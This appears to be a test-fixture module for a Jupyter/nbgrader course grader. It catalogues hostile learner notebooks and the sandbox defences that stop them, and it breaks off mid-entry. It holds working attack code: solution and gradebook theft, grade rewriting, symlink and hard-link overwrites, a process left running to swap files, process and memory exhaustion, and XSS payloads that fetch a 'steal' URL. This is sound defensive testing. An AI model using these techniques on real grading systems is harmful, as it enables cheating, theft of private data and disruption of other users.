"""Hostile and broken submissions to chapter 1's assignment, kept as real notebooks.

Each :class:`Hostile` below is a learner who attacks or breaks the grader in one way.
Its notebook is the committed release (``exercises/ch01/ch01.ipynb``) with the
reference solutions filled in, then the entry's changes: answer cells replaced, test
cells edited, deleted or re-labelled, cells added. ``expected`` says what each test cell
must score (cells not listed earn their full points: the honest parts of a hostile
notebook count). ``defence`` says what stops the attack.

The notebooks are committed next to this file; rebuild them after changing an entry::

    .venv/bin/python tests/hostile/__init__.py

tests/test_hostile.py grades them all with the real ``nbgrader autograde``, checks every
score, and checks that the honest learners graded in the same batch lose nothing.
"""

from __future__ import annotations

import copy
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
COURSE = HERE.parents[1]
ASSIGNMENT = "ch01"
FUNCTIONS = ("dot_loop", "dot", "norm", "angle_between", "project")
# The network test opens a listener on 127.0.0.1 on a port the system picks, and writes
# that port over this placeholder when it submits the network notebook.
PORT = "__LISTENER_PORT__"


@dataclass(frozen=True)
class Hostile:
    """One hostile learner: what they try, what stops it, and what they must score."""

    name: str
    attack: str
    defence: str
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> new source
    expected: dict[str, float] = field(default_factory=dict)  # test cell -> score; others: full points
    deleted: tuple[str, ...] = ()  # grade_ids of cells removed
    added: tuple[tuple[str, str], ...] = ()  # (grade_id to add after, source of a new cell)
    metadata: dict[str, dict] = field(default_factory=dict)  # grade_id -> nbgrader metadata to overwrite
    needs_signal_scoping: bool = False  # only safe where the grader is out of its reach (bubblewrap, or Landlock ABI 6)
    markdown: tuple[tuple[str, str], ...] = ()  # (grade_id to add after, source of a new markdown cell)
    sleepy: tuple[str, ...] = ()  # functions answered right that sleep SLEEP seconds first, on every call
    cell_types: dict[str, str] = field(default_factory=dict)  # grade_id -> the cell type it is turned into
    # (grade_id of a cell to copy, grade_id to put the copy before, its source, the grade_id it claims)
    copies: tuple[tuple[str, str, str, str], ...] = ()
    notebook_metadata: dict = field(default_factory=dict)  # merged into the notebook's own metadata
    # bytes of markdown the test adds when it submits the notebook (kept out of git): a notebook the
    # grader must refuse to read; such a learner is not graded at all
    oversize: int = 0
    # how the test breaks the file when it submits it (the committed notebook stays valid): "not_json",
    # "nbformat_5", "source_not_text"; such a learner is not graded at all
    corrupt: str = ""

    @property
    def refused(self) -> bool:
        """Whether nbgrader must refuse this notebook unread (it is then not graded at all)."""
        return bool(self.oversize or self.corrupt)


def _src(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


ZERO = 0.0
# seconds each call of a slow_but_right function waits: just under the hostile batch's 4 s per call. It
# waits on NumPy's clock, as the tasks allow NumPy and nothing else (time.sleep is refused before it runs).
SLEEP = 3
_WAIT = (f"    until = np.datetime64('now', 'ms') + np.timedelta64({SLEEP * 1000}, 'ms')\n"
         "    while np.datetime64('now', 'ms') < until:\n        pass\n")
CATALOGUE = [
    Hostile(
        "loops",
        "dot_loop never returns; norm loops and swallows every KeyboardInterrupt; a cell at top level does the same",
        "the kernel's cell times out and, when the interrupt is swallowed, the kernel is stopped instead of the "
        "submission; in the sandbox each call and each replayed cell has a wall-clock timeout after which the "
        "process group is killed, and the notebook is replayed without the cell",
        answers={
            "dot_loop": _src("""
                def dot_loop(a, b):
                    while True:
                        pass
            """),
            "norm": _src("""
                def norm(a):
                    while True:
                        try:
                            while True:
                                pass
                        except KeyboardInterrupt:
                            pass
            """),
        },
        added=(("project", _src("""
            while True:  # at top level: the notebook itself never finishes
                try:
                    pass
                except KeyboardInterrupt:
                    pass
        """)),),
        expected={"test_dot_loop": ZERO, "test_norm": ZERO},
    ),
    Hostile(
        "exits",
        "functions that call sys.exit, os._exit and os.kill(os.getpid(), 9); cells that call sys.exit and os._exit",
        "each function runs in a forked worker: its death fails its own check with a message and the next "
        "check gets a fresh worker; a cell that ends its process is skipped on replay; the kernel that dies is "
        "reported in that cell and grading goes on",
        answers={
            "dot": _src("""
                import sys

                def dot(a, b):
                    sys.exit("bye")
            """),
            "angle_between": _src("""
                import os

                def angle_between(a, b, degrees=False):
                    os._exit(0)
            """),
            "project": _src("""
                import os

                def project(a, onto):
                    os.kill(os.getpid(), 9)
            """),
        },
        added=(("dot_loop", "import sys\nsys.exit(1)  # IPython catches this one\n"),
               ("project", "import os\nos._exit(3)  # the kernel dies here\n")),
        expected={"test_dot": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "exceptions",
        "every kind of exception: a BaseException subclass, KeyboardInterrupt, RecursionError, GeneratorExit, "
        "an exception whose __str__ raises; and one honest ValueError subclass that is the right answer",
        "the sandbox reports each exception as its name and message; only Exception subclasses count as an error "
        "a function may raise, and a subclass of the right builtin (here ValueError) is accepted",
        answers={
            "dot_loop": _src("""
                class Escape(BaseException):
                    pass

                def dot_loop(a, b):
                    raise Escape("out of the check")
            """),
            "dot": _src("""
                def dot(a, b):
                    raise KeyboardInterrupt
            """),
            "norm": _src("""
                def norm(a):
                    return norm(a)  # RecursionError
            """),
            "angle_between": _src("""
                class Nasty(Exception):
                    def __str__(self):
                        raise RuntimeError("no message for you")

                def angle_between(a, b, degrees=False):
                    raise Nasty()
            """),
            "project": _src("""
                class ShapeError(ValueError):
                    pass

                def project(a, onto):
                    a, onto = np.asarray(a, dtype=float), np.asarray(onto, dtype=float)
                    if a.shape != onto.shape:
                        raise ShapeError(f"a.shape={a.shape} and onto.shape={onto.shape} must match")
                    length_sq = float(onto @ onto)
                    if length_sq == 0:
                        raise ShapeError("cannot project onto the zero vector")
                    return float(a @ onto) / length_sq * onto
            """),
        },
        added=(("dot_loop", "raise GeneratorExit('at top level')\n"),),
        expected={"test_dot_loop": ZERO, "test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO},
    ),
    Hostile(
        "huge_output",
        "prints 200 MB at top level, and 200 MB on every call of dot_loop (which is otherwise right)",
        "the kernel's messages are capped (zmq MAXMSGSIZE) and each cell keeps at most 1 MB of output; the "
        "sandbox sends its output to /dev/null",
        answers={
            "dot_loop": _src("""
                def dot_loop(a, b):
                    print("x" * 200_000_000)
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return float(sum(x * y for x, y in zip(a, b)))
            """),
        },
        added=(("dot_loop", 'print("y" * 200_000_000)\n'),),
    ),
    Hostile(
        "huge_memory",
        "asks for 40 GiB at top level; norm fills memory 256 MiB at a time; project allocates 40 GB of ones",
        "an address-space limit (4 GiB) on the kernel and on the sandbox: the allocation fails with MemoryError "
        "long before the machine's 24 GiB",
        answers={
            "norm": _src("""
                def norm(a):
                    hoard = []
                    while True:
                        hoard.append(bytearray(2**28))
            """),
            "project": _src("""
                def project(a, onto):
                    return np.ones(5 * 2**30)
            """),
        },
        added=(("dot_loop", "big = bytearray(40 * 2**30)\n"),),
        expected={"test_norm": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "edited_tests",
        "edits the dot test cell to pass, deletes the project test cell, relabels the norm test cell as "
        "ungraded and worth 100 points, and gives angle_between's test cell 30 points; dot and project are wrong",
        "nbgrader restores locked cells and missing test cells; the sandbox takes each test from the instructor's "
        "source in the gradebook and restores the cell's grade and points",
        answers={
            "dot": "def dot(a, b):\n    return 0.0\n",
            "test_dot": "print('all good')\n",
            "project": "def project(a, onto):\n    return onto\n",
        },
        deleted=("test_project",),
        metadata={"test_norm": {"grade": False, "points": 100}, "test_angle_between": {"points": 30}},
        expected={"test_dot": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "tamper",
        "every answer is wrong, and every answer cell tampers with what the grader relies on: check_dot_loop, "
        "run_checks and CheckFailure, numpy.allclose and builtins, a `ch01` of its own, the checks' comparison",
        "the checks run in the grader process, which imports its own pristine copies; the learner's process only "
        "answers calls, and `ch01` is resolved from the instructor's import cell",
        answers={
            "dot_loop": _src("""
                import dotlab.checks.ch01
                dotlab.checks.ch01.check_dot_loop = lambda fn, hidden=False: print("✔ dot_loop: all checks passed")

                def dot_loop(a, b):
                    return 0.0
            """),
            "dot": _src("""
                import dotlab.checks._core as core
                core.run_checks = lambda *args, **kwargs: None
                core.CheckFailure = type("CheckFailure", (Exception,), {})
                def dot(a, b):
                    return 0.0
            """),
            "norm": _src("""
                import builtins
                np.allclose = lambda *args, **kwargs: True
                builtins.abs = lambda x: 0
                def norm(a):
                    return 0.0
            """),
            "angle_between": _src("""
                class ch01:
                    @staticmethod
                    def check_angle_between(fn, hidden=False):
                        print("✔ angle_between: all checks passed")

                def angle_between(a, b, degrees=False):
                    return 0.0
            """),
            "project": _src("""
                import dotlab.checks._core as core
                core._matches = lambda *args, **kwargs: True
                core._judge_value = lambda *args, **kwargs: None
                def project(a, onto):
                    return 0.0
            """),
        },
        expected={f"test_{f}": ZERO for f in FUNCTIONS},
    ),
    Hostile(
        "forbidden",
        "calls routines the exercise forbids: numpy.dot through an alias taken at import, numpy.linalg.norm "
        "inside try/except, the course's reference through importlib.reload, dotlab.angle_between directly; "
        "dot (where NumPy is allowed) is honest",
        "tripwires wrap every reference to a forbidden routine before the learner's cells run, are armed only "
        "while the function answers the check that forbids them, record a call even when it is caught, and "
        "recognise a reloaded copy of a Python routine by its code",
        answers={
            "dot_loop": _src("""
                from numpy import dot as multiply_and_add

                def dot_loop(a, b):
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return float(multiply_and_add(a, b))
            """),
            "norm": _src("""
                def norm(a):
                    a = np.asarray(a, dtype=float)
                    if a.ndim != 1:
                        raise ValueError(f"expected a 1-D vector, got shape {a.shape}")
                    try:
                        return float(np.linalg.norm(a))
                    except Exception:
                        return math.sqrt(float(a @ a))
            """),
            "angle_between": _src("""
                import dotlab

                def angle_between(a, b, degrees=False):
                    return dotlab.angle_between(a, b, degrees=degrees)
            """),
            "project": _src("""
                import importlib
                import dotlab.vectors
                fresh_project = importlib.reload(dotlab.vectors).project

                def project(a, onto):
                    return fresh_project(a, onto)
            """),
        },
        expected={"test_dot_loop": ZERO, "test_norm": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "liars",
        "answers that claim to equal anything: an object whose __eq__ is always True, a float subclass, an "
        "ndarray subclass, an object whose __array__ changes its mind; project is honest",
        "the sandbox reads every answer as plain float64 numbers in the learner's process and the grader compares "
        "those numbers; no learner object ever reaches the grader",
        answers={
            "dot_loop": _src("""
                class Anything:
                    def __eq__(self, other):
                        return True
                    __hash__ = None

                def dot_loop(a, b):
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return Anything()
            """),
            "dot": _src("""
                class Agreeable(float):
                    def __eq__(self, other):
                        return True
                    __hash__ = float.__hash__

                def dot(a, b):
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return Agreeable(0.0)
            """),
            "norm": _src("""
                class Close(np.ndarray):
                    def __eq__(self, other):
                        return np.ones(np.shape(other), dtype=bool)

                def norm(a):
                    a = np.asarray(a, dtype=float)
                    if a.ndim != 1:
                        raise ValueError(f"expected a 1-D vector, got shape {a.shape}")
                    return np.zeros(()).view(Close)
            """),
            "angle_between": _src("""
                class Moody:
                    calls = 0
                    def __array__(self, dtype=None, copy=None):
                        Moody.calls += 1
                        return np.array(0.5 * Moody.calls)

                def angle_between(a, b, degrees=False):
                    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
                    if a.shape != b.shape or not a.any() or not b.any():
                        raise ValueError(f"a.shape={a.shape} and b.shape={b.shape}: same shape, not zero")
                    return Moody()
            """),
        },
        expected={"test_dot_loop": ZERO, "test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO},
    ),
    Hostile(
        "snoop_files",
        "at top level and inside every function, reads the instructor's solutions (beside the installed dotlab, "
        "and up from the working folder), the gradebook and other learners' notebooks; answers from the stolen "
        "solution if it got one; tries to overwrite the gradebook and the checks on disk",
        "Landlock: learner code may read only Python, its packages and system files, and write only its own "
        "folder; the sandbox's folder is an empty temporary one, the kernel's is the learner's own",
        answers={
            "dot_loop": _src("""
                import glob, json, os, pathlib, sqlite3
                import dotlab

                def steal():
                    here = pathlib.Path.cwd()
                    places = [pathlib.Path(dotlab.__file__).parents[2]] + list(here.parents)
                    found = {}
                    for root in places:
                        for pattern in ("solutions/ch01/ch01.ipynb", "source/ch01/ch01.ipynb",
                                        "submitted/*/ch01/ch01.ipynb", "autograded/*/ch01/ch01.ipynb", "gradebook.db"):
                            for path in glob.glob(str(root / pattern)):
                                try:
                                    found[path] = pathlib.Path(path).read_bytes()
                                except OSError:
                                    pass
                        for db in glob.glob(str(root / "gradebook.db")):
                            try:
                                with sqlite3.connect(db) as con:
                                    con.execute("UPDATE grade SET auto_score = 10")
                            except Exception:
                                pass
                    try:
                        checks = pathlib.Path(dotlab.__file__).parent / "checks" / "ch01.py"
                        checks.write_text(checks.read_text() + "\\n# tampered\\n")
                    except OSError:
                        pass
                    return found

                def stolen(name):
                    for path, data in steal().items():
                        if path.endswith("solutions/ch01/ch01.ipynb") or path.endswith("source/ch01/ch01.ipynb"):
                            for cell in json.loads(data)["cells"]:
                                source = "".join(cell["source"])
                                if source.startswith(f"def {name}("):
                                    namespace = {"np": np, "math": math}
                                    exec(source, namespace)
                                    return namespace[name]
                    return None

                LOOT = steal()
                print("stole", len(LOOT), "files:", sorted(LOOT))

                def dot_loop(a, b):
                    return stolen("dot_loop")(a, b)
            """),
            "norm": "def norm(a):\n    return stolen('norm')(a)\n",
            "project": "def project(a, onto):\n    return stolen('project')(a, onto)\n",
        },
        expected={"test_dot_loop": ZERO, "test_norm": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "network",
        "dot_loop answers only if it can open a TCP connection (to a listener the test opens on 127.0.0.1); a "
        "top-level cell tries the same and reports",
        "the kernel and the sandbox run in bubblewrap's network namespace (a loopback of their own) and Landlock "
        "forbids them any TCP connection; the kernel talks to the grader over socket files, not TCP",
        answers={
            "dot_loop": _src(f"""
                import socket

                def online():
                    try:
                        socket.create_connection(("127.0.0.1", int("{PORT}")), timeout=2).close()
                        return True
                    except OSError:
                        return False

                print("network reachable:", online())

                def dot_loop(a, b):
                    if not online():
                        return None
                    if len(a) != len(b):
                        raise ValueError(f"a has length {{len(a)}} but b has length {{len(b)}}")
                    return float(sum(x * y for x, y in zip(a, b)))
            """),
        },
        expected={"test_dot_loop": ZERO},
    ),
    Hostile(
        "kill_grader",
        "a top-level cell tries to kill the grader: the kernel's parent (nbgrader itself) and the sandbox's "
        "parents; every function is right (the task's allowlist would refuse os.kill inside one, so a worker "
        "killing its parent is tested in test_sandbox.py)",
        "the grader is outside the learner's PID namespace (bubblewrap), so it has no id there to signal, and "
        "Landlock scopes signals (ABI 6) too; the sandbox's own processes may die, and are restarted",
        answers={
            "dot": _src("""
                import os, signal
                for target in (os.getppid(), os.getpgid(os.getppid())):
                    try:
                        os.kill(target, signal.SIGKILL)
                    except OSError as exc:
                        print("could not kill", target, exc)

                def dot(a, b):
                    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
                    if a.ndim != 1 or b.ndim != 1 or a.shape != b.shape:
                        raise ValueError(f"a.shape={a.shape} and b.shape={b.shape} must be equal 1-D shapes")
                    return float(a @ b)
            """),
        },
        needs_signal_scoping=True,
    ),
    Hostile(
        "symlinks",
        "a top-level cell replaces its notebook in autograded/<id>/ch01/ with a symlink to another learner's "
        "submission (nbconvert's writer would follow it and overwrite theirs) and adds one to gradebook.db "
        "(nbgrader's set_permissions would follow it and make the gradebook read-only); every function is right",
        "learner code starts in a private scratch folder (a tmpfs of its own); autograded/, the gradebook and the "
        "other learners are not in its view, and Landlock forbids it to create a symlink anywhere",
        added=(("dot_loop", _src('''
            import os, pathlib

            def graded_folders(me):
                """Where the grader keeps this notebook: the folder it runs in, or found from the course root."""
                here = pathlib.Path.cwd()
                roots = [p for p in [here, *here.parents] if (p / "gradebook.db").exists()]
                return [(here, roots)] + [(root / "autograded" / me / "ch01", [root]) for root in roots]

            done = []
            for folder, roots in graded_folders("symlinks"):
                for root in roots:
                    # a classmate's id is no secret, and a link's target need not be readable to be made
                    classmate = root / "submitted" / "honest_reference" / "ch01" / "ch01.ipynb"
                    for target, link in ((classmate, "ch01.ipynb"), (root / "gradebook.db", "gradebook.db")):
                        try:
                            if os.path.lexists(folder / link):
                                os.remove(folder / link)
                            os.symlink(target, folder / link)
                            done.append(link)
                        except OSError as exc:
                            print("could not link", link, exc)
                try:
                    os.symlink("/etc/passwd", folder / "probe")
                    done.append("probe")
                except OSError as exc:
                    print("could not make a symlink in", folder, exc)
            print("symlinks made:", done)
        ''')),),
    ),
    Hostile(
        "hardlinks",
        "a top-level cell hard-links another learner's submission over its own notebook in autograded/<id>/ch01/, "
        "and the gradebook, nbgrader_config.py and the solutions into that folder (nbgrader chmods and copies "
        "what is there); every function is right",
        "none of those files is in learner code's view (a mount namespace of its own), its only writable folder "
        "is a tmpfs that no course file can be linked into, and Landlock refuses links from other folders",
        added=(("dot_loop", _src('''
            import glob, os, pathlib

            here = pathlib.Path.cwd()
            roots = [p for p in [here, *here.parents] if (p / "gradebook.db").exists()]
            done = []
            for folder in [here] + [root / "autograded" / "hardlinks" / "ch01" for root in roots]:
                for root in roots or [here]:
                    others = [p for p in glob.glob(str(root / "submitted" / "*" / "ch01" / "ch01.ipynb"))
                              if "/hardlinks/" not in p]
                    pairs = [(root / "gradebook.db", "gradebook.db"), (root / "nbgrader_config.py", "config.py"),
                             (root / "solutions" / "ch01" / "ch01.ipynb", "solution.ipynb")]
                    if others:
                        pairs.append((pathlib.Path(others[0]), "ch01.ipynb"))
                    for target, name in pairs:
                        try:
                            if os.path.lexists(folder / name):
                                os.remove(folder / name)
                            os.link(target, folder / name)
                            done.append(name)
                        except OSError as exc:
                            print("could not link", name, exc)
            print("hard links made:", done)
        ''')),),
    ),
    Hostile(
        "late_swap",
        "a top-level cell double-forks a process that tries setsid (so as to be in no process group the grader "
        "kills; seccomp refuses it, and the orphan is made all the same) and then, for two minutes, keeps swapping its graded notebook for a symlink to "
        "solutions/ch01/ch01.ipynb, so that generate_feedback would render the solutions; every function is right",
        "the process is in the notebook's PID namespace (bubblewrap), which the kernel tears down when the kernel "
        "or the sandbox ends, before grading returns; and it never sees the graded notebook or the solutions",
        added=(("dot_loop", _src('''
            import os, sys

            SWAP = """
            import os, pathlib, sys, time  # dotlab-hostile-late-swap
            os.write(int(sys.argv[1]), b"x")
            start = pathlib.Path(sys.argv[2])
            for _ in range(600):
                time.sleep(0.2)
                for root in [start, *start.parents]:
                    solution = root / "solutions" / "ch01" / "ch01.ipynb"
                    mine = root / "autograded" / "late_swap" / "ch01" / "ch01.ipynb"
                    if solution.exists() and mine.exists():
                        try:
                            os.symlink(solution, mine.with_name(".swap"))
                            os.replace(mine.with_name(".swap"), mine)
                        except OSError:
                            pass
            """

            ready, told = os.pipe()
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:  # refused (a forked copy of the kernel prints nothing: its sockets are the kernel's)
                    pass
                if os.fork() == 0:
                    os.close(ready)
                    os.set_inheritable(told, True)
                    os.execv(sys.executable, [sys.executable, "-c", SWAP, str(told), os.getcwd()])
                os._exit(0)
            os.close(told)
            os.wait()
            print("orphan running" if os.read(ready, 1) == b"x" else "no orphan")
        ''')),),
    ),
    Hostile(
        "exit_answers",
        "answers whose special methods raise what is not an Exception: __float__ raises SystemExit, __array__, "
        "__eq__ and __hash__ KeyboardInterrupt, __len__ and __iter__ GeneratorExit, __repr__ and __float__ a "
        "BaseException of its own; project is right but leaves objects whose __del__ raises KeyboardInterrupt",
        "the worker reads every answer as plain data (numbers, repr, type name) inside the sandbox under its own "
        "except BaseException; the grader receives only that data, never an object or an exception to re-raise, "
        "so each trick costs its own cell and the rest of the notebook and the batch are graded",
        answers={
            "dot_loop": _src("""
                class Bye:
                    def __float__(self):
                        raise SystemExit("bye")
                    def __repr__(self):
                        return "Bye()"

                def dot_loop(a, b):
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return Bye()
            """),
            "dot": _src("""
                class Interrupting:
                    def __array__(self, dtype=None, copy=None):
                        raise KeyboardInterrupt
                    def __eq__(self, other):
                        raise KeyboardInterrupt
                    def __hash__(self):
                        raise KeyboardInterrupt

                def dot(a, b):
                    if len(a) != len(b):
                        raise ValueError(f"a has length {len(a)} but b has length {len(b)}")
                    return Interrupting()
            """),
            "norm": _src("""
                class Closing:
                    def __len__(self):
                        raise GeneratorExit
                    def __iter__(self):
                        raise GeneratorExit
                    def __getitem__(self, i):
                        raise GeneratorExit

                def norm(a):
                    if np.ndim(a) != 1:
                        raise ValueError(f"expected a 1-D vector, got shape {np.shape(a)}")
                    return Closing()
            """),
            "angle_between": _src("""
                class Escape(BaseException):
                    pass

                class Slippery:
                    def __repr__(self):
                        raise Escape("no repr")
                    def __str__(self):
                        raise Escape("no str")
                    def __float__(self):
                        raise Escape("no float")

                def angle_between(a, b, degrees=False):
                    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
                    if a.shape != b.shape or a.ndim != 1:
                        raise ValueError(f"a.shape={a.shape} and b.shape={b.shape} must be equal 1-D shapes")
                    if not (a @ a) or not (b @ b):
                        raise ValueError("cannot take the angle with the zero vector")
                    return Slippery()
            """),
            "project": _src("""
                class Litter:
                    def __del__(self):
                        raise KeyboardInterrupt

                def project(a, onto):
                    Litter()  # garbage whose finaliser raises: the answer is still right
                    a, onto = np.asarray(a, dtype=float), np.asarray(onto, dtype=float)
                    if a.shape != onto.shape:
                        raise ValueError(f"a.shape={a.shape} and onto.shape={onto.shape} must match")
                    length_sq = float(onto @ onto)
                    if length_sq == 0:
                        raise ValueError("cannot project onto the zero vector")
                    return float(a @ onto) / length_sq * onto
            """),
        },
        expected={"test_dot_loop": ZERO, "test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO},
    ),
    Hostile(
        "feedback_scripts",
        "every function is right; the notebook displays HTML with a script, an image whose onerror runs code, an "
        "iframe, a javascript: link and a form, JavaScript, SVG with a script, markdown with a script, a PNG whose "
        "width metadata carries an event handler, isolated HTML; a markdown cell of its own holds a script: each "
        "would set the feedback page's title or fetch a URL in the browser of the instructor who opens it",
        "feedback pages keep only text, sanitised HTML and real PNG/JPEG images with no output metadata; every "
        "piece of HTML, markdown cells included, goes through an allowlist sanitiser (bleach): what is not "
        "allowed is shown as text; a browser test opens the page",
        added=(("dot_loop", _src(r"""
            from IPython.display import HTML, SVG, Javascript, Markdown, display

            display(HTML(
                "<script>document.title='pwned-html'; fetch('http://127.0.0.1:9/steal-html')</script>"
                "<img src='http://127.0.0.1:9/steal-img' onerror=\"document.title='pwned-img'\">"
                "<iframe srcdoc=\"<script>parent.document.title='pwned-iframe'</script>\"></iframe>"
                "<a href=\"javascript:document.title='pwned-link'\">click</a>"
                "<form action='http://127.0.0.1:9/steal-form'><button>go</button></form>"
                "<b onmouseover=\"document.title='pwned-hover'\">bold text stays</b>"))
            display(Javascript("document.title='pwned-js'"))
            display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned-svg'\">"
                        "<script>document.title='pwned-svg-script'</script></svg>"))
            display(Markdown("<script>document.title='pwned-md'</script>[x](javascript:alert(1))"))
            display({"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
                     "text/plain": "a png"}, raw=True,
                    metadata={"image/png": {"width": "1 onerror=document.title='pwned-width'"}})
            display({"text/html": "<b>isolated</b><script>document.title='pwned-isolated'</script>"}, raw=True,
                    metadata={"text/html": {"isolated": True}})
        """)),),
        markdown=(("dot_loop", "My notes\n\n<script>document.title='pwned-markdown-cell'</script>\n\n"
                                "<img src=x onerror=\"document.title='pwned-markdown-img'\">\n"),),
    ),
    Hostile(
        "slow_but_right",
        "every function is right, and dot, norm, angle_between and project each sleep just under the per-call "
        "limit on every call: about twenty calls per check make one learner take minutes, a class hours",
        "a time budget per notebook (c.GradingLimits.notebook_budget) on top of the per-cell and per-call limits: "
        "every wait on learner code is charged to it; when it runs out the cells not yet decided score zero with "
        "TimeBudgetExceeded saying why, the grading record flags it, and the batch goes on",
        sleepy=("dot", "norm", "angle_between", "project"),
        expected={"test_dot": ZERO, "test_norm": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "tripwires",
        "reaches the reference around its tripwires: dot_loop calls it from the package's source compiled again "
        "under another file name; norm switches the call profile off with sys.setprofile(None) and reloads the "
        "module; angle_between calls a reloaded copy from another thread; project's cell first finds the "
        "tripwires with gc and empties them; dot is honest",
        "the static allowlist refuses these constructs in the learner's source before anything runs; at run time "
        "the sandbox recognises the reference's code wherever it was compiled, profiles threads started during a "
        "call, and an audit hook (which Python cannot remove) sees sys.setprofile and gc; a call that used one "
        "fails, and every one is written to the grading record for the instructor, with its cell",
        answers={
            "dot_loop": _src("""
                import inspect
                import dotlab.vectors

                _copy = {}
                exec(compile(inspect.getsource(dotlab.vectors), "my_own_notes.py", "exec"), _copy)

                def dot_loop(a, b):
                    return _copy["dot_loop"](a, b)
            """),
            "norm": _src("""
                import importlib
                import sys
                import dotlab.vectors

                def norm(a):
                    sys.setprofile(None)
                    return importlib.reload(dotlab.vectors).norm(a)
            """),
            "angle_between": _src("""
                import importlib
                import threading
                import dotlab.vectors

                _fresh = importlib.reload(dotlab.vectors).angle_between

                def angle_between(a, b, degrees=False):
                    out = []
                    worker = threading.Thread(target=lambda: out.append(_fresh(a, b, degrees=degrees)))
                    worker.start()
                    worker.join()
                    return out[0]
            """),
            "project": _src("""
                import gc
                import sys
                import dotlab

                for _o in gc.get_objects():
                    if type(_o).__name__ == "Tripwires":
                        for _names in _o.names.values():
                            _names.clear()
                sys.setprofile(None)

                def project(a, onto):
                    return dotlab.project(a, onto)
            """),
        },
        expected={"test_dot_loop": ZERO, "test_norm": ZERO, "test_angle_between": ZERO, "test_project": ZERO},
    ),
    Hostile(
        "bombs",
        "top-level cells that start processes until refused (each child waits, so all are alive at once), "
        "threads until refused, and open descriptors until refused; each stops by itself at 300 (so that, "
        "uncontained, it cannot harm the machine that runs this test); every function is right",
        "a cap on the tasks (processes and threads) of each sandbox (RLIMIT_NPROC, counted in the sandbox's own "
        "user namespace, so learners graded side by side have a cap each) and on open descriptors "
        "(RLIMIT_NOFILE): fork and thread creation fail at once at the cap, not at a timeout",
        added=(("dot_loop", _src("""
            import os, threading

            release, hold = os.pipe()
            children = []
            for _ in range(300):  # a safety stop: the sandbox's cap must come first
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    os.close(hold)
                    os.read(release, 1)  # alive until the parent has counted them all
                    os._exit(0)
                children.append(pid)
            os.close(hold)
            for pid in children:
                os.waitpid(pid, 0)
            print("processes started:", len(children))

            stop, threads = threading.Event(), []
            for _ in range(300):
                try:
                    thread = threading.Thread(target=stop.wait)
                    thread.start()
                except RuntimeError:
                    break
                threads.append(thread)
            stop.set()
            for thread in threads:
                thread.join()
            print("threads started:", len(threads))

            opened = []
            for _ in range(300_000):
                try:
                    opened.append(os.open(os.devnull, os.O_RDONLY))
                except OSError:
                    break
            for fd in opened:
                os.close(fd)
            print("descriptors opened:", len(opened))
        """)),),
    ),
    Hostile(
        "hidden_memory",
        "a top-level cell takes memory that no address-space limit counts: System V shared memory segments "
        "(detached, they belong to no process and the OOM killer cannot free them), anonymous memory files "
        "(memfd) and files in /dev/shm, 64 MiB at a time up to 1 GiB each (a safety stop); every function is right",
        "seccomp refuses shmget and memfd_create to learner code (EPERM), Landlock refuses writing under /dev, and "
        "the scratch folder is a size-capped tmpfs; learner processes are the OOM killer's first choice",
        added=(("dot_loop", _src("""
            import ctypes, os

            CHUNK = 64 * 2**20
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            shared = 0
            for _ in range(16):
                segment = libc.shmget(0, CHUNK, 0o1600)
                if segment < 0:
                    break
                address = libc.shmat(segment, None, 0)
                if address in (None, 2**64 - 1):
                    break
                ctypes.memset(address, 1, CHUNK)
                libc.shmdt(ctypes.c_void_p(address))
                shared += 64
            print("System V shared memory MiB:", shared)

            files, held = [], 0
            for _ in range(16):
                try:
                    fd = os.memfd_create("hoard")
                    os.write(fd, b"x" * CHUNK)
                except OSError:
                    break
                files.append(fd)
                held += 64
            print("memfd MiB:", held)

            in_shm = 0
            try:
                with open(f"/dev/shm/hoard-{os.getpid()}", "wb") as handle:
                    for _ in range(16):
                        handle.write(b"x" * CHUNK)
                        in_shm += 64
            except OSError:
                pass
            print("/dev/shm MiB:", in_shm)
        """)),),
    ),
    Hostile(
        "forged_messages",
        "a top-level cell speaks the kernel's protocol itself with the kernel's own session: an execute_result "
        "saying every check passed, outputs whose content is malformed (text that is not a string, data that is "
        "not a dict, an error without a traceback, an unknown message type), a message over 16 MB, and an "
        "execute_reply 'ok' for its own request while it goes on running; dot is wrong",
        "no test cell is decided by kernel output: every graded cell is judged in the sandbox and its outputs are "
        "written by the grader; the kernel's messages are capped in size and malformed ones are dropped, so the "
        "notebook is graded and the batch goes on",
        answers={"dot": "def dot(a, b):\n    return 0.0\n"},
        added=(("dot_loop", _src("""
            import time

            kernel = get_ipython().kernel
            session, parent = kernel.session, kernel.get_parent()
            forged = {
                "execute_result": {"data": {"text/plain": "✔ dot: all checks passed"}, "metadata": {},
                                   "execution_count": 1},
                "stream": {"name": "stdout", "text": 12345},
                "display_data": {"data": "not a dict", "metadata": []},
                "error": {"ename": None, "evalue": ["x"], "traceback": "not a list"},
                "clear_output": {"wait": "maybe"},
